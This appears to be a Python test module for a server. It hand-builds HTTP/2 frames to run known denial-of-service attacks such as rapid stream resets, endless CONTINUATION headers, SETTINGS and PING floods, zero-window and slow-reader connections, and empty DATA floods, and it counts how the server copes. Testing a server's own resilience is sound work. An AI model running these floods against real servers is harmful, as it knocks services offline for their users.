"""Attacks by frames of HTTP/2."""

import socket
import struct
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

from attacks import FLOOD_SECONDS, MODEL, Answers, Attack, newcomer, until_closed
from server import Address, Server


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def http2(address: Address, *settings: tuple[int, int]) -> socket.socket:
    """A connection of HTTP/2."""
    stream = socket.create_connection(address, timeout=5)
    payload = b"".join(struct.pack(">HI", *setting) for setting in settings)
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, payload))
    return stream


def unread(count: int, each: int, path: str) -> Attack:
    """Answers that are asked for and not read, for want of a window."""

    def run(server: Server) -> Answers:
        name = path.encode()
        head = b"\x82\x86\x01\x01t\x04" + bytes([len(name)]) + name
        streams = [http2(server.http, (4, 0)) for _ in range(count)]
        for stream in streams:
            stream.sendall(b"".join(frame(1, 5, 2 * number + 1, head) for number in range(each)))
        time.sleep(3)
        answers = Answers({"asked": count * each})
        for stream in streams:
            stream.close()
        return answers

    return run


def pinging(count: int, seconds: float) -> Attack:
    """Connections of HTTP/2 that ask nothing, answer pings and stay. The server must close them by itself."""

    def run(server: Server) -> Answers:
        streams = []
        answers = Answers()
        for _ in range(count):
            try:
                stream = http2(server.http)
                stream.sendall(frame(4, 1, 0))
                stream.setblocking(False)
                streams.append(stream)
            except OSError:
                answers["no place"] += 1

        def look(stream: socket.socket) -> bool:
            got = stream.recv(4096)
            # A frame of pings, which comes alone, is acknowledged.
            if len(got) >= 17 and got[-14] == 6 and got[-13] == 0:
                stream.send(frame(6, 1, 0, got[-8:]))
            return bool(got)

        answers.update(until_closed(streams, seconds, 0.2, look))
        return answers

    return run


def literal(name: str, value: str) -> bytes:
    """A header of HTTP/2, not compressed."""
    return b"".join([b"\0", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()])


def flood(count: int, bytes_: Callable[[int], bytes], pause: float = 0) -> Attack:
    """Connections of HTTP/2 that send frames as fast as they can, or with pauses, and read nothing."""

    def one(address: Address) -> str:
        sent = 0
        try:
            with http2(address) as stream:
                stream.settimeout(1.0)
                end = time.monotonic() + FLOOD_SECONDS
                while time.monotonic() < end:
                    piece = bytes_(sent)
                    stream.sendall(piece)
                    sent += 1
                    time.sleep(pause)
        except TimeoutError:
            return "no longer read"
        except OSError:
            return "closed by the server"
        return "read to the end"

    def run(server: Server) -> Answers:
        with ThreadPoolExecutor(count) as pool:
            return Counter(pool.map(one, [server.http] * count)) + newcomer(server.http)

    return run


def resets(count: int, each: int, pause: float) -> Attack:
    """Requests that are taken back at once, so many in one piece, with pauses between pieces."""
    head = b"\x82\x86\x01\x01t\x04\x0a/v1/models"

    def some(sent: int) -> bytes:
        numbers = range(2 * each * sent + 1, 2 * each * (sent + 1) + 1, 2)
        return b"".join(frame(1, 5, number, head) + frame(3, 0, number, b"\0\0\0\x08") for number in numbers)

    return flood(count, some, pause)


def continuations(count: int) -> Attack:
    """A head that does not end."""
    piece = literal("a" * 100, "b" * 100) * 60

    def some(sent: int) -> bytes:
        return frame(1, 1, 1, b"\x82\x86") if sent == 0 else frame(9, 0, 1, piece)

    return flood(count, some)


def settings(count: int) -> Attack:
    """Settings, each of which asks for an answer."""
    return flood(count, lambda _: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 500)


def pings(count: int) -> Attack:
    """Pings, each of which asks for an answer."""
    return flood(count, lambda _: frame(6, 0, 0, bytes(8)) * 500)


def empty_pieces(count: int) -> Attack:
    """A body of pieces without a byte."""
    head = b"\x83\x86\x01\x01t" + literal(":path", f"{MODEL}/score") + literal("content-type", "image/png")
    return flood(count, lambda sent: frame(1, 4, 1, head) if sent == 0 else frame(0, 0, 1) * 500)


def slow_readers(count: int, path: str, rate: int, seconds: float) -> Attack:
    """Answers that are taken at so many bytes a second. The server must end them by itself."""
    name = path.encode()
    head = b"\x82\x86\x01\x01t\x04" + bytes([len(name)]) + name
    # Others that ask for nothing keep no connection: one stream of each is enough.
    more = b"".join(frame(8, 0, number, struct.pack(">I", rate // 2)) for number in (0, 1))

    def run(server: Server) -> Answers:
        streams = [http2(server.http, (4, 0)) for _ in range(count)]
        for stream in streams:
            stream.sendall(frame(1, 5, 1, head))
            stream.setblocking(False)

        def look(stream: socket.socket) -> bool:
            stream.sendall(more)
            while got := stream.recv(1 << 16):
                pass
            return bool(got)

        return until_closed(streams, seconds, 0.5, look)

    return run
